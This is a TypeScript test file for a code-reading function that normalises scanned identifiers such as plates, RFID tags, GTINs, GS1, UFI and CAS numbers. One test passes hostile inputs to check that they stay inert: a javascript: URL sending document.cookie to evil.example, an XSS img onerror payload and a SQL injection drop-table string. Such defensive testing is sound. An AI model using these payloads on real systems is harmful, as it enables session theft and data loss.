import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { codeKey, codeSpellings, readCode } from './read-code.ts';

/** Signs of every sort: letters that grow in capitals, halves of letters, what no keyboard has. */
const anything = fc
  .array(
    fc.oneof(fc.string(), fc.constantFrom('ß', 'ﬁ', '\ud800', '\0', '\u001d', ' ', ':', '04', 'e\u0301')),
  )
  .map((parts) => parts.join(''));

describe('what was read', () => {
  it.each([
    ['a number plate, however it is typed', ' sv-017 ', 'SV-017'],
    ['a radio tag with colons', '04:a1:b2:c3', '04A1B2C3'],
    ['a radio tag without', '04a1b2c3', '04A1B2C3'],
    ['a short number with a dash keeps it', '12-34', '12-34'],
    ['a code with its symbology in front', ']Q1SV-017', 'SV-017'],
    ['a code inside control characters', '\u001dSV-017\r\n', 'SV-017'],
  ])('is filed under one spelling: %s', (_name, raw, key) => expect(readCode(raw).keys[0]).toBe(key));

  it('a GTIN is found under each of its lengths', () => {
    expect(readCode('012345678905').keys).toEqual(['012345678905', '00012345678905', '0012345678905']);
    expect(readCode('96385074').keys).toContain('00000096385074');
    expect(readCode('96385075').keys).toEqual(['96385075']);
  });

  it('a code has the spellings it is filed under, and a GTIN those of each length', () => {
    expect(codeSpellings(' 04:a1:b2:c3 ')).toEqual(['04A1B2C3']);
    expect(new Set(codeSpellings('7031234567895'))).toEqual(new Set(codeSpellings('07031234567895')));
  });

  it('a GS1 code is found by what names the thing, never by its batch', () => {
    const { keys, elements } = readCode('(01)07031234567895(10)LOT7(21)S-99(8004)SV-017');
    expect(keys.slice(1)).toEqual(['SV-017', 'S-99', '07031234567895', '7031234567895']);
    expect(elements).toHaveLength(4);
  });

  it('a UFI and a CAS number are found with or without their name in front', () => {
    expect(readCode('UFI: N1QV-R02N-J00M-WQD5').keys).toContain('N1QV-R02N-J00M-WQD5');
    expect(readCode('CAS No. 67-64-1').keys).toContain('67-64-1');
    expect(readCode('UFI').keys).toEqual(['UFI']);
  });

  it('a label of our own leads to a record of a module that exists only in projects', () => {
    const id = '019a85c2-0000-7000-8000-000000000001';
    const own = (path: string) => readCode(`https://demo.work.example.com/${path}/${id}`).own;
    expect(own('projects/12/ndt/action')).toEqual({ path: 'ndt', id });
    expect(own('projects/12/custom_modules/3/action')).toEqual({ path: 'custom_modules/3', id });
    expect(own('projects/12/ndt')).toBeUndefined();
  });

  it('a label of our own leads to its record, whatever host printed it', () => {
    const id = '019a85c2-0000-7000-8000-000000000001';
    expect(readCode(`https://demo.work.example.com/equipments/${id.toUpperCase()}?s=1`).own).toEqual({
      path: 'equipments',
      id,
    });
    for (const other of [`https://x/${id}`, `javascript:/equipments/${id}`, `https://x/a/b/${id}`])
      expect(readCode(other).own).toBeUndefined();
  });

  it.each([
    ['an address of somebody else', 'https://evil.example/login?next=/equipments'],
    ['a script', 'javascript:fetch("//evil.example/"+document.cookie)'],
    ['marks of a page', '<img src=x onerror=alert(1)>'],
    ['four thousand characters', 'A'.repeat(4_096)],
    ['a command for the database', "'; drop table record; --"],
    ['nothing but blanks', ' \t\r\n'],
  ])('%s is a text like any other: it leads nowhere by itself', (_what, raw) => {
    const { own, text, keys } = readCode(raw);
    expect(own).toBeUndefined();
    expect(text.length).toBeLessThanOrEqual(500);
    expect(keys.length).toBeLessThanOrEqual(2);
  });

  it('whatever it is, it is read without failing, and reading a spelling again changes nothing', () => {
    fc.assert(
      fc.property(anything, (raw) => {
        const { keys } = readCode(raw);
        expect(keys.every((key) => key !== '' && key.length <= 120 && codeKey(key) === key)).toBe(true);
      }),
      { numRuns: 400 },
    );
  });
});
